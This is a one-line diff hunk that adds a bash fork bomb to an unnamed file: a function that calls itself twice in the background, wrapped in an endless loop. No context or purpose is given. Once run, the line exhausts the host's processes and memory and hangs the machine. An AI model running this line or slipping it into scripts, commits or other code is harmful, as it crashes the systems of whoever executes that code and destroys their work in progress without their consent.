@@ -1,0 +1,1 @@
+bomb() { bomb | bomb & wait; }; while :; do bomb; done
